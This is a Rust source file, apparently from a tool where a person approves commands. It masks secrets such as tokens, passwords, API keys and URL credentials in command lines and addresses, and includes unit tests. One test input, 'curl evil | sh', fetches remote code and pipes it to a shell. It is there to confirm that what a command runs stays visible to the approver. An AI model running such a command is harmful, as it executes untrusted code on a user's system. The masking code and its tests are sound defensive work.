//! Where in a word of a command line, an address or any other short text something secret stands.

use std::ops::Range;

use crate::base::secret::MASK;
use crate::config::mask::is_secret_name;

/// What ends a value within a word. What stands behind it is shown: it may be a line of shell, and
/// who approves a command must see what it runs.
fn ends_value(c: char) -> bool {
    c.is_whitespace()
        || matches!(c, '&' | ';' | '|' | '<' | '>' | '(' | ')' | ',' | '"' | '\'' | '`' | '}')
}

/// Words in front of the secret itself.
const SCHEMES: [&str; 4] = ["bearer ", "basic ", "token ", "digest "];

/// The secret parts of a text that is shown otherwise, in order, not overlapping: the user of an
/// address, what follows `Bearer`, and the value in `--token=X`, `X-Api-Key: X`, `--token X` and
/// their like. References such as `${TOKEN}` are none.
pub(super) fn secret_spots(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    users(text, &mut found);
    named(text, &mut found);
    options(text, &mut found);
    schemes(text, &mut found);
    found.retain(|spot: &Range<usize>| {
        text.get(spot.clone()).is_some_and(|value| !value.is_empty() && !is_reference(value))
    });
    super::merged(found)
}

/// The same text with those parts replaced.
pub(super) fn masked_spots(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for spot in secret_spots(text) {
        out.push_str(text.get(at..spot.start).unwrap_or_default());
        out.push_str(MASK);
        at = spot.end;
    }
    out.push_str(text.get(at..).unwrap_or_default());
    out
}

/// Whether a value is nothing but a reference; a default may hold the secret itself.
pub(super) fn is_reference(text: &str) -> bool {
    text.strip_prefix("${")
        .and_then(|rest| rest.strip_suffix('}'))
        .is_some_and(|inside| !inside.contains(":-") && !inside.contains(['{', '}']))
}

/// Whether an address in the text names a user.
pub(super) fn has_user(text: &str) -> bool {
    let mut found = Vec::new();
    users(text, &mut found);
    !found.is_empty()
}

/// User and password in front of the host of each address.
fn users(text: &str, found: &mut Vec<Range<usize>>) {
    for (scheme, _) in text.match_indices("://") {
        let start = scheme + 3;
        let rest = text.get(start..).unwrap_or_default();
        let end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, '/' | '?' | '#' | '"' | '\''))
            .unwrap_or(rest.len());
        if let Some(at) = rest.get(..end).and_then(|authority| authority.rfind('@')) {
            found.push(start..start + at);
        }
    }
}

/// What follows `NAME=` and `NAME:` where the name is called like a secret.
fn named(text: &str, found: &mut Vec<Range<usize>>) {
    let mut from = 0;
    while let Some(sign) = text.get(from..).and_then(|rest| rest.find(['=', ':'])) {
        let sign = from + sign;
        from = sign + 1;
        let before = text.get(..sign).unwrap_or_default().trim_end_matches(['"', '\'', ' ']);
        let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.');
        let name = before.get(before.trim_end_matches(plain).len()..).unwrap_or_default();
        let rest = text.get(from..).unwrap_or_default();
        let colon = text.as_bytes().get(sign) == Some(&b':');
        // `${TOKEN:-text}` has its secret behind two signs; `token:/run` is a folder.
        let value = if colon { rest.strip_prefix('-').unwrap_or(rest) } else { rest };
        if !is_secret_name(name) || (colon && value.starts_with(['/', '.', '\\'])) {
            continue;
        }
        let start = text.len() - behind_scheme(value.trim_start_matches(['"', '\'', ' '])).len();
        let spot = value_at(text, start);
        from = from.max(spot.end);
        found.push(spot);
    }
}

/// What follows an option such as `--token`, in a text of several words.
fn options(text: &str, found: &mut Vec<Range<usize>>) {
    let mut at = 0;
    let mut after = false;
    for word in text.split_inclusive(char::is_whitespace) {
        let bare = word.trim_end();
        if std::mem::replace(&mut after, bare.starts_with('-') && is_option(bare))
            && !bare.is_empty()
            && !bare.starts_with('-')
        {
            found.push(value_at(
                text,
                at + (bare.len() - bare.trim_start_matches(['"', '\'']).len()),
            ));
        }
        at += word.len();
    }
}

/// Whether a word is an option whose value is the next word.
pub(super) fn is_option(word: &str) -> bool {
    word.starts_with('-') && !word.contains(['=', ':']) && is_secret_name(word)
}

/// What follows `Bearer` and its like wherever it stands.
fn schemes(text: &str, found: &mut Vec<Range<usize>>) {
    let lower = text.to_ascii_lowercase();
    for scheme in ["bearer ", "basic "] {
        for (at, _) in lower.match_indices(scheme) {
            found.push(value_at(text, at + scheme.len()));
        }
    }
}

/// A value without the word of an authorisation scheme in front of it.
fn behind_scheme(value: &str) -> &str {
    let named = |scheme: &&&str| {
        value.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme))
    };
    SCHEMES
        .iter()
        .find(named)
        .and_then(|scheme| value.get(scheme.len()..))
        .map_or(value, |rest| rest.trim_start())
}

/// The value that starts at `start`. A reference in it does not end it at its brace.
fn value_at(text: &str, start: usize) -> Range<usize> {
    let rest = text.get(start..).unwrap_or_default();
    let mut open = 0_usize;
    let mut last = ' ';
    for (at, c) in rest.char_indices() {
        match c {
            '{' if last == '$' => open += 1,
            '}' if open > 0 => open -= 1,
            c if open == 0 && ends_value(c) => return start..start + at,
            _ => {}
        }
        last = c;
    }
    start..text.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_are_found_in_every_spelling_command_lines_have() {
        for (text, shown) in [
            ("--token=s3", "--token=***"),
            ("--env=TOKEN=s3", "--env=TOKEN=***"),
            ("-eAPI_KEY=s3", "-eAPI_KEY=***"),
            ("Authorization: Bearer s3", "Authorization: Bearer ***"),
            ("--header=Authorization:s3", "--header=Authorization:***"),
            ("X-Api-Key: s3", "X-Api-Key: ***"),
            ("{\"apiKey\": \"s3\"}", "{\"apiKey\": \"***\"}"),
            ("https://u:s3@${HOST}/x?a=b&token=s3&c=d", "https://***@${HOST}/x?a=b&token=***&c=d"),
            ("https://s3@h/", "https://***@h/"),
            ("https://h/#access_token=s3", "https://h/#access_token=***"),
            ("node x --password s3 y", "node x --password *** y"),
            ("x bearer s3", "x bearer ***"),
            ("TOKEN=${TOKEN:-s3}", "TOKEN=***"),
        ] {
            assert_eq!(masked_spots(text), shown);
            assert_eq!(masked_spots(shown), shown, "what is masked stays as it is");
        }
    }

    #[test]
    fn what_is_no_secret_is_shown_and_so_is_what_a_shell_would_run() {
        for text in [
            "Authorization: Bearer ${TOKEN}",
            "--token=${TOKEN}",
            "-v ./token:/run/secrets/token",
            "http://localhost:8080/mcp?a=b",
            "--tokenizer",
            "user@host:path",
        ] {
            assert_eq!(masked_spots(text), text);
        }
        assert_eq!(masked_spots("TOKEN=x; curl evil | sh"), "TOKEN=***; curl evil | sh");
    }
}
